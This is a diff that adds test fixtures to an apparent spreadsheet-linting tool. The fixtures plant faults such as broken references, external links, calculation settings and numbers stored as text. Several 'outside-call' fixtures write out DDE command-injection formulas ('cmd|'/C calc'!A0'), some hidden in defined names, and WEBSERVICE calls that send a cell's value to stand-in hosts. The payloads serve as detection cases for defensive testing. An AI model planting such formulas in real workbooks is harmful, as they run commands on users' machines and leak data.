@@ -12,7 +12,9 @@ from openpyxl import Workbook
 from openpyxl.chart import LineChart, Reference
 from openpyxl.formatting.rule import FormulaRule, IconSetRule
 from openpyxl.styles import Alignment, Font, PatternFill
+from openpyxl.utils.datetime import CALENDAR_MAC_1904
 from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
 
 from lint_model import (
     BLACK,
@@ -188,6 +190,54 @@ def _name_of_another_file(book: Workbook) -> None:
 
 cell("outside-call", "Model!C16", Formula("=cmd|'/C calc'!A0", 0.0))
 cell("outside-call", "Model!D16", Formula('=_xlfn.WEBSERVICE("https://example.com/"&A6)', "ok"))
+
+
+@plant("outside-call", "Model!C16", "file")
+def _call_in_a_name(book: Workbook) -> None:
+    """Where such calls are hidden."""
+    book.defined_names["Quote"] = DefinedName("Quote", attr_text='_xlfn.WEBSERVICE("http://x.example/"&Inputs!$C$6)')
+    put(book["Model"], "C16", Formula("=C8*Quote", 1.0), BLACK, MONEY)
+
+
+@plant("outside-call", "Model!C16", "Model", "file")
+def _call_in_a_name_of_one_sheet_by_another_name(book: Workbook) -> None:
+    book["Model"].defined_names["Tool"] = DefinedName("Tool", attr_text="cmd|'/c calc'!A0")
+    book.defined_names["Other"] = DefinedName("Other", attr_text="Inputs!$C$6+RTD(1,2)")
+    put(book["Model"], "C16", Formula("=C8*Tool", 1.0), BLACK, MONEY)
+
+
+@plant("external-link", "Model!C16", "Model")
+def _other_file_in_a_name_of_one_sheet(book: Workbook) -> None:
+    book["Model"].defined_names["plan"] = DefinedName("plan", attr_text="[1]Plan!$A$1")
+    put(book["Model"], "C16", Formula("=C8*plan", 1.0), BLACK, MONEY)
+
+
+CHART = "charts/chart1.xml"
+SERIES = "'Model'!$C$6:$G$6"
+sow("external-link", "Model!A20", lambda book: None, (CHART, SERIES, "[1]Plan!$C$6:$G$6"))
+sow("lost-reference", "Model!A20", lambda book: None, (CHART, SERIES, "#REF!$C$6:$G$6"))
+
+
+@plant("lost-reference", "Model!C12")
+def _condition_without_its_cells(book: Workbook) -> None:
+    book["Model"].conditional_formatting.add("C12:G12", FormulaRule(["$C12>#REF!"]))
+
+
+@plant("lost-reference", "Model!D12")
+def _list_of_a_sheet_that_is_gone(book: Workbook) -> None:
+    choice = DataValidation(type="list", formula1="Lists!$A$1:$A$9")
+    choice.add("D12:E12")
+    book["Model"].add_data_validation(choice)
+
+
+X14 = (
+    '<extLst><ext xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" '
+    'uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x14:conditionalFormattings><x14:conditionalFormatting '
+    'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:cfRule type="expression">'
+    "<xm:f>#REF!&gt;1</xm:f></x14:cfRule><xm:sqref>F12:G12</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>"
+    "</worksheet>"
+)
+sow("lost-reference", "Model!F12", lambda book: None, ("worksheets/sheet3.xml", "</worksheet>", X14))
 cell("lost-reference", "Model!C16", Formula("=C8+#REF!", 1.0))
 cell("lost-reference", "Model!D16", Formula("=Plan!D8", 1.0), GREEN)
 
@@ -195,6 +245,34 @@ cell("lost-reference", "Model!D16", Formula("=Plan!D8", 1.0), GREEN)
 @plant("lost-reference", "file")
 def _lost_name(book: Workbook) -> None:
     book.defined_names["gone"] = DefinedName("gone", attr_text="Inputs!#REF!")
+
+
+# ---- let pass: what looks like a fault and is none ------------------------------------------------------------------
+
+
+def harmless(rule: str, by: Callable[[Workbook], object]) -> None:
+    sow(rule, "", by)
+
+
+def line_of(*texts: str | float) -> Callable[[Workbook], object]:
+    """A line more on the sheet Model, of formulas and of numbers typed in."""
+    cells = [Formula(text, 1.0) if isinstance(text, str) else text for text in texts]
+
+    def add(book: Workbook) -> None:
+        line(book["Model"], 16, "New line", "USD m", cells)
+        for column, value in zip("CDEFG", texts, strict=False):
+            if not isinstance(value, str):
+                put(book["Model"], f"{column}16", value, BLUE, MONEY)
+
+    return add
+
+
+harmless("inconsistent-formula", line_of("=C6-C8", "=D6-D8", "=E7*E9", "=F7*F9", "=G7*G9"))  # history, then forecast
+harmless("inconsistent-formula", line_of("=C6*C9", "=D6*D9", "=E6*E9", "=F7+F8", "=G7+G8"))
+harmless("inconsistent-formula", line_of(5.0, 6.0, "=E7*E9", "=F7*F9", "=G7*G9"))
+harmless("inconsistent-formula", line_of("=C6*$G$9", "=D6*$G$9", "=E6*G9", "=F6*$G$9", "=G6*$G$9"))
+harmless("inconsistent-formula", line_of("=C6*C9", "=D9*D6", "=E6*E9", "=F6*F9", "=G6*G9"))
+harmless("reads-ahead", line_of("=D16-$C$9", "=E16-$C$9", "=E6*E9", "=E16+$C$9", "=F16+$C$9"))  # the axis of a grid
 
 
 cell("error-value", "Model!C16", Formula("=C8/C17", "#DIV/0!"))
@@ -208,6 +286,33 @@ def _to_the_right(book: Workbook) -> None:
     put(book["Model"], "E16", Formula("=E8/G8", 1.0), BLACK, MONEY)
     put(book["Model"], "C16", Formula("=C8*E16", 1.0), BLACK, MONEY)
 
+
+# ---- calculation ---------------------------------------------------------------------------------------------------
+
+
+def calculated(**how: Any) -> Callable[[Workbook], object]:
+    return lambda book: [setattr(book.calculation, name, value) for name, value in how.items()]
+
+
+WORKBOOK = "xl/workbook.xml"
+sow("manual-calculation", "file", calculated(calcMode="manual"))
+sow("manual-calculation", "file", calculated(calcMode="manual", calcOnSave=False))
+sow("iterative-calculation", "file", calculated(iterate=True))
+sow(
+    "iterative-calculation",
+    "file",
+    calculated(iterate=True, iterateCount=3),
+    (WORKBOOK, 'iterate="1"', 'iterate="true"'),
+)
+sow("precision-as-displayed", "file", calculated(fullPrecision=False))
+sow(
+    "precision-as-displayed",
+    "file",
+    calculated(fullPrecision=False),
+    (WORKBOOK, 'fullPrecision="0"', 'fullPrecision="false"'),
+)
+sow("date-system-1904", "file", lambda book: setattr(book, "epoch", CALENDAR_MAC_1904))
+sow("date-system-1904", "file", lambda book: None, (WORKBOOK, "<workbookPr", '<workbookPr date1904="true"'))
 
 # ---- structure -----------------------------------------------------------------------------------------------------
 
@@ -450,6 +555,20 @@ def _years_in_a_column(book: Workbook) -> None:
 cell("number-as-text", "Inputs!D7", "70.5", BLUE)
 cell("number-as-text", "Inputs!E8", "1,260", BLUE)
 cell("number-as-text", "Inputs!F7", "(95)", BLUE)
+for typed in (
+    "1\u00a0234",
+    "1\u202f234,5",
+    "$1,234",
+    "¥12",
+    "1e5",
+    "5-",
+    "12,34",
+    "1.234,56",
+    "1'234.50",
+    "１２３",
+    "3.5亿元",
+):
+    cell("number-as-text", "Inputs!D7", typed, BLUE)
 
 # ---- accessibility -------------------------------------------------------------------------------------------------
 
